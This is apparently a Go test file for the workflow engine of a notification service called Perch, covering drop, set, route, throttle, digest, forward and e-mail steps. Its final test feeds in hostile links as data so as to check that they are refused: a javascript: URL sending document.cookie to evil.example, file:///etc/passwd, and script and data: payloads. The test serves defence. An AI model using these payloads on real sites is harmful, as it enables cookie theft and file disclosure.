package server

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/perch-dev/perch"
	"github.com/perch-dev/perch/internal/fanout"
	"github.com/perch-dev/perch/internal/netguard"
	"github.com/perch-dev/perch/internal/store"
	"github.com/perch-dev/perch/internal/store/storetest"
	"github.com/perch-dev/perch/internal/testenv"
	"github.com/perch-dev/perch/internal/worker"
)

// addWorkflow gives acc's organisation an enabled workflow through the API
// and answers its id.
func (a *api) addWorkflow(acc *account, name, condition string, steps ...perch.Step) string {
	a.t.Helper()
	w := a.mustCreateWorkflow(acc, map[string]any{"name": name, "enabled": true, "condition": condition, "steps": steps})
	return w["id"].(string)
}

// deliver posts an inbound event with the webhook token and answers the
// receipt.
func (a *api) deliver(token string, event map[string]any) map[string]any {
	a.t.Helper()
	return expect(a.t, a.call("POST", "/webhooks/inbound?token="+token, "", event), 200).Body
}

// runsOf answers a workflow's recorded runs, newest first, once everything
// delivered so far is recorded.
func (a *api) runsOf(orgID, workflowID string) []*perch.WorkflowRun {
	a.t.Helper()
	a.srv.runs.Wait()
	runs, _, err := a.store.WorkflowRuns(a.t.Context(), orgID, workflowID, "", perch.Page{Limit: 100})
	if err != nil {
		a.t.Fatalf("WorkflowRuns: %v", err)
	}
	return runs
}

func (a *api) statsOf(orgID, workflowID string) perch.WorkflowStats {
	a.t.Helper()
	a.srv.runs.Wait()
	w, err := a.store.Workflow(a.t.Context(), orgID, workflowID)
	if err != nil {
		a.t.Fatalf("Workflow: %v", err)
	}
	return w.Stats
}

// A drop step stops delivery: the sender is answered that the notification
// was withheld, no client sees it, the history does not hold it, and the
// run is recorded while non-matches only count.
func TestWorkflowDropStopsDelivery(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "Mute noise", `event.title.startsWith("noise")`, perch.Step{Drop: &perch.DropStep{}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		receipt := a.deliver(tok, map[string]any{"title": "noise: disk 71%"})
		if receipt["withheld"] != 1.0 || receipt["ids"] != nil {
			t.Fatalf("receipt = %v, want withheld 1 and no ids", receipt)
		}
		a.post(tok, "sentinel")
		if got := ws.until("sentinel"); len(got) != 0 {
			t.Fatalf("the client saw %q before the sentinel, want nothing", got)
		}
		history := expect(t, a.call("GET", "/api/v1/notifications", ada.Access, nil), 200).List()
		if len(history) != 1 || history[0]["title"] != "sentinel" {
			t.Fatalf("history = %v, want the sentinel alone", history)
		}
		runs := a.runsOf(ada.OrgID, id)
		if len(runs) != 1 || runs[0].Status != perch.RunDropped || runs[0].NotificationID != "" || runs[0].Steps[0].Type != perch.StepDrop {
			t.Fatalf("runs = %+v, want one dropped run without a notification", runs)
		}
		if st := a.statsOf(ada.OrgID, id); st != (perch.WorkflowStats{Evaluated: 2, Matched: 1}) {
			t.Fatalf("stats = %+v, want 2 evaluated, 1 matched", st)
		}
	})
}

// A set step changes what the client shows and what the history keeps;
// workflows run in order, each on what the one before made.
func TestWorkflowSetChangesWhatTheClientShows(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		first := a.addWorkflow(ada, "Prefix prod", `has(payload.env) && payload.env == "prod"`,
			perch.Step{Set: map[string]string{"title": `"[prod] " + event.title`, "severity": `"error"`, "tab": `"Production"`}})
		a.clock.Advance(time.Second)
		a.addWorkflow(ada, "Link runbook", `event.title.startsWith("[prod]")`,
			perch.Step{Set: map[string]string{"url": `"https://runbooks.example.com/" + payload.service`}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		receipt := a.deliver(tok, map[string]any{"title": "api is down", "severity": "warning", "env": "prod", "service": "api"})
		n := ws.next().notification(t)
		if n.Title != "[prod] api is down" || n.Severity != perch.SeverityError || n.Tab != "Production" || n.URL != "https://runbooks.example.com/api" {
			t.Fatalf("the client saw %+v", n)
		}
		if ids := receipt["ids"].([]any); len(ids) != 1 || ids[0] != n.ID {
			t.Fatalf("receipt %v does not name %s", receipt, n.ID)
		}
		stored := expect(t, a.call("GET", "/api/v1/notifications", ada.Access, nil), 200).List()[0]
		if stored["title"] != "[prod] api is down" || stored["severity"] != "error" {
			t.Fatalf("history keeps %v", stored)
		}
		runs := a.runsOf(ada.OrgID, first)
		if len(runs) != 1 || runs[0].Status != perch.RunDelivered || runs[0].NotificationID != n.ID {
			t.Fatalf("runs = %+v, want one delivered run of %s", runs, n.ID)
		}
	})
}

// A route step moves the notification to one team's clients: a member
// outside the team never sees it.
func TestWorkflowRouteMovesItToATeam(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		bob := a.invite(ada, "Bob", "member")
		dan := a.invite(ada, "Dan", "member")
		team := expect(t, a.call("POST", "/api/v1/org/teams", ada.Access, map[string]string{"name": "Database"}), 201).Data()["id"].(string)
		expect(t, a.call("PUT", "/api/v1/org/teams/"+team+"/members/"+bob.ID, ada.Access, nil), 204)
		tok := a.webhookToken(ada, "org", "")
		a.addWorkflow(ada, "Database to the DB team", `event.title.contains("postgres")`,
			perch.Step{Route: &perch.RouteStep{Scope: perch.ScopeTeam, ID: team}})
		bobWS, danWS := dial(t, ts, bob.Access, ""), dial(t, ts, dan.Access, "")
		bobWS.ready()
		danWS.ready()

		a.post(tok, "postgres replica lag")
		a.post(tok, "sentinel")
		if got := bobWS.until("sentinel"); len(got) != 1 || got[0] != "postgres replica lag" {
			t.Fatalf("the team's member saw %q", got)
		}
		if got := danWS.until("sentinel"); len(got) != 0 {
			t.Fatalf("a member outside the team saw %q", got)
		}
	})
}

// A route to a member who has left the organisation since the workflow was
// saved fails the run, and the notification goes to its own audience.
func TestWorkflowRouteToAMemberWhoLeftFails(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		bob := a.invite(ada, "Bob", "member")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "To Bob", "", perch.Step{Route: &perch.RouteStep{Scope: perch.ScopeUser, ID: bob.ID}})
		expect(t, a.call("DELETE", "/api/v1/org/members/"+bob.ID, ada.Access, nil), 204)
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		a.post(tok, "secret deploy")
		if n := ws.next().notification(t); n.Title != "secret deploy" || n.Scope.Type != perch.ScopeOrg || n.Scope.ID != ada.OrgID {
			t.Fatalf("the organisation saw %+v", n)
		}
		if got, err := s.Notifications(t.Context(), &perch.Audience{UserID: bob.ID}, "", 10); err == nil && len(got) != 0 {
			t.Fatalf("the member who left has %d notifications", len(got))
		}
		runs := a.runsOf(ada.OrgID, id)
		if len(runs) != 1 || runs[0].Status != perch.RunFailed || runs[0].Steps[0].Status != "failed" ||
			!strings.Contains(runs[0].Steps[0].Detail, "not in the organisation") {
			t.Fatalf("runs = %+v, want one failed run", runs)
		}
	})
}

// A throttle lets exactly max through per window and key; the window's end
// lets more through.
func TestWorkflowThrottleLetsMaxThroughPerWindow(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "Two per host", `event.title != "sentinel"`,
			perch.Step{Throttle: &perch.ThrottleStep{Key: `payload.host`, Max: 2, Per: perch.Duration(10 * time.Minute)}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		withheld := 0
		for i := range 5 {
			r := a.deliver(tok, map[string]any{"title": "disk full " + string(rune('a'+i)), "host": "db-1"})
			if r["withheld"] != nil {
				withheld++
			}
		}
		a.deliver(tok, map[string]any{"title": "disk full on web", "host": "web-1"}) // another key
		a.clock.Advance(10 * time.Minute)
		a.deliver(tok, map[string]any{"title": "disk full again", "host": "db-1"})
		a.post(tok, "sentinel")
		got := ws.until("sentinel")
		want := []string{"disk full a", "disk full b", "disk full on web", "disk full again"}
		if withheld != 3 || len(got) != len(want) {
			t.Fatalf("withheld %d, the client saw %q; want 3 withheld and %q", withheld, got, want)
		}
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("the client saw %q, want %q", got, want)
			}
		}
		throttled := 0
		for _, r := range a.runsOf(ada.OrgID, id) {
			if r.Status == perch.RunThrottled {
				throttled++
			}
		}
		if throttled != 3 {
			t.Fatalf("%d throttled runs, want 3", throttled)
		}
	})
}

// A workflow that fails never costs the notification: it is delivered as
// it came, and the run says why.
func TestWorkflowThatFailsDeliversUnchanged(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "Broken", "", perch.Step{Set: map[string]string{"title": `"x"`, "severity": `payload.level`}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		a.deliver(tok, map[string]any{"title": "payment failed", "level": "catastrophic"})
		if n := ws.next().notification(t); n.Title != "payment failed" || n.Severity != perch.SeverityInfo {
			t.Fatalf("the client saw %+v, want the notification unchanged", n)
		}
		runs := a.runsOf(ada.OrgID, id)
		if len(runs) != 1 || runs[0].Status != perch.RunFailed || runs[0].NotificationID == "" {
			t.Fatalf("runs = %+v, want one failed run of the delivered notification", runs)
		}
		if st := a.statsOf(ada.OrgID, id); st.Failed != 1 {
			t.Fatalf("stats = %+v, want 1 failed", st)
		}
	})
}

// A change of workflows on one instance reaches the others through the
// fan-out: the instance that had loaded "no workflows" loads them again.
func TestWorkflowChangesReachEveryInstance(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		shared := fanout.NewLocal()
		useShared := func(o *Options) { o.Fanout = shared }
		one, two := newAPI(t, s, useShared), newAPI(t, s, useShared)
		ada := one.register("Ada")
		tok := one.webhookToken(ada, "org", "")
		two.post(tok, "before") // instance two loads the organisation's (no) workflows
		one.addWorkflow(ada, "Drop all", "", perch.Step{Drop: &perch.DropStep{}})
		var receipt map[string]any
		// The fan-out delivers asynchronously: the change arrives soon.
		testenv.EventuallyNil(t, 10*time.Second, func() error {
			if receipt = two.deliver(tok, map[string]any{"title": "after"}); receipt["withheld"] != 1.0 {
				return fmt.Errorf("instance two still delivers after the change: %v", receipt)
			}
			return nil
		})
	})
}

// A digest holds what it matches, and when the window closes delivers one
// summary to the client, with the right count and the highest severity.
func TestWorkflowDigestDeliversOneSummaryToTheClient(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "Digest deploys", `event.tab == "Deploys"`,
			perch.Step{Digest: &perch.DigestStep{Key: `event.tab`, Window: perch.Duration(15 * time.Minute)}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		for i, sev := range []string{"info", "warning", "info"} {
			r := a.deliver(tok, map[string]any{"title": "deploy " + string(rune('1'+i)), "severity": sev, "tab": "Deploys"})
			if r["withheld"] != 1.0 {
				t.Fatalf("receipt %v, want the notification withheld", r)
			}
		}
		tick(t, a) // the window is open: nothing is due
		a.clock.Advance(15 * time.Minute)
		tick(t, a)
		tick(t, a) // once only
		a.post(tok, "sentinel")
		var summaries []perch.Notification
		for f := ws.next(); ; f = ws.next() {
			if f.Type != "notification" {
				continue
			}
			n := f.notification(t)
			if n.Title == "sentinel" {
				break
			}
			summaries = append(summaries, n)
		}
		if len(summaries) != 1 {
			t.Fatalf("the client saw %d notifications, want one summary: %+v", len(summaries), summaries)
		}
		sum := summaries[0]
		if !strings.HasPrefix(sum.Title, "3 notifications: deploy 1") || sum.Severity != perch.SeverityWarning || sum.Tab != "Deploys" ||
			!strings.Contains(sum.Message, "deploy 2") || !strings.Contains(sum.Message, "deploy 3") {
			t.Fatalf("the summary is %+v", sum)
		}
		if runs := a.runsOf(ada.OrgID, id); len(runs) != 3 || runs[0].Status != perch.RunDigested {
			t.Fatalf("runs = %+v, want 3 digested", runs)
		}
	})
}

// A forward reaches a local HTTP server after the notification is stored,
// signed, with the stored notification as its body; when that server fails
// twice, the worker tries again after each backoff.
func TestWorkflowForwardFromAReceiverIsSignedAndRetried(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		a.setWorker(func(o *worker.Options) { o.AllowPrivate = true })
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		rc := startReceiver(t, 502, 503)
		a.addWorkflow(ada, "Errors to chat", `event.severity == "error"`,
			perch.Step{Forward: &perch.ForwardStep{URL: rc.url, Secret: "chat-secret"}})

		a.deliver(tok, map[string]any{"title": "fine", "severity": "info"})
		id := a.deliver(tok, map[string]any{"title": "payments are failing", "severity": "error"})["ids"].([]any)[0].(string)
		for range 3 {
			tick(t, a)
			a.clock.Advance(2 * time.Hour) // past any backoff
		}
		got := rc.requests()
		if len(got) != 3 {
			t.Fatalf("the receiver got %d requests, want 3 (two failures, then success)", len(got))
		}
		for _, r := range got {
			if err := netguard.Verify("chat-secret", r.header.Get("X-Perch-Signature"), r.body, a.clock.Now(), 1000*time.Hour); err != nil {
				t.Fatalf("signature %q: %v", r.header.Get("X-Perch-Signature"), err)
			}
			var n perch.Notification
			if err := json.Unmarshal(r.body, &n); err != nil || n.ID != id || n.Title != "payments are failing" {
				t.Fatalf("body %s, want the stored notification %s", r.body, id)
			}
		}
		if len(pendingJobs(t, a)) != 0 {
			t.Fatal("the forward is still queued after it succeeded")
		}
	})
}

// An e-mail step mails the organisation's owners through the SMTP server,
// after the notification is stored.
func TestWorkflowEmailFromAReceiverReachesTheOwners(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ada := a.register("Ada")
		bob := a.invite(ada, "Bob", "member")
		tok := a.webhookToken(ada, "org", "")
		a.addWorkflow(ada, "Mail the owners", `event.severity == "error"`, perch.Step{Email: &perch.EmailStep{To: "owners"}})
		a.srv.mailing.Wait()
		before := a.mail.Count(bob.Email)

		a.deliver(tok, map[string]any{"title": "the database is gone", "severity": "error", "message": "db-1 stopped answering"})
		tick(t, a)
		m := a.mail.WaitFor(t, ada.Email)
		for m.Subject != "[Perch] the database is gone" {
			m = a.mail.WaitFor(t, ada.Email)
		}
		if !strings.Contains(m.Text, "db-1 stopped answering") {
			t.Fatalf("the message lacks the notification's text:\n%s", m.Text)
		}
		if a.mail.Count(bob.Email) != before {
			t.Fatal("a member who is not an owner was mailed")
		}
	})
}

// A set step cannot give a notification a link the receivers refuse
// (javascript:, file:): the run fails, the notification is delivered with
// the link it came with, and "try it" says the same; a sample event with
// such a link is refused as a receiver would refuse it.
func TestWorkflowSetOfAnUnsafeLinkFailsTheRun(t *testing.T) {
	t.Parallel()
	storetest.Run(t, func(t *testing.T, s *store.Store) {
		a := newAPI(t, s)
		ts := a.live()
		ada := a.register("Ada")
		tok := a.webhookToken(ada, "org", "")
		id := a.addWorkflow(ada, "Links", "", perch.Step{Set: map[string]string{"title": `"[x] " + event.title`, "url": `payload.link`}})
		ws := dial(t, ts, ada.Access, "")
		ws.ready()

		const page = "https://status.example.com/incidents/7"
		for i, link := range []string{"javascript:fetch('https://evil.example/'+document.cookie)", "file:///etc/passwd", "JAVASCRIPT:alert(1)"} {
			a.deliver(tok, map[string]any{"title": "db down", "url": page, "link": link})
			if n := ws.next().notification(t); n.URL != page || n.Title != "db down" {
				t.Fatalf("%s: the client saw %+v, want the notification unchanged", link, n)
			}
			runs := a.runsOf(ada.OrgID, id)
			if len(runs) != i+1 || runs[0].Status != perch.RunFailed || runs[0].Steps[0].Status != "failed" ||
				!strings.HasPrefix(runs[0].Steps[0].Detail, "url: ") {
				t.Fatalf("%s: runs = %+v, want a failed set step about the url", link, runs)
			}
		}
		// A good link is taken.
		a.deliver(tok, map[string]any{"title": "db up", "url": page, "link": "https://status.example.com/incidents/8"})
		if n := ws.next().notification(t); n.URL != "https://status.example.com/incidents/8" || n.Title != "[x] db up" {
			t.Fatalf("the client saw %+v, want the link set", n)
		}

		path := workflowsPath + "/" + id + "/test"
		got := expect(t, a.call("POST", path, ada.Access, map[string]any{"event": map[string]any{"title": "t", "url": page},
			"payload": map[string]any{"link": "javascript:alert(1)"}}), 200).Data()
		if n := got["notification"].(map[string]any); got["status"] != perch.RunFailed || n["url"] != page || n["title"] != "t" {
			t.Fatalf("try = %v, want failed with the notification unchanged", got)
		}
		for _, link := range []string{"javascript:alert(1)", "data:text/html,x", "/relative"} {
			res := expect(t, a.call("POST", path, ada.Access, map[string]any{"event": map[string]any{"url": link}}), 422)
			if res.Fields()["event.url"] == nil {
				t.Fatalf("a sample with url %q: %s", link, res.Raw)
			}
		}
	})
}
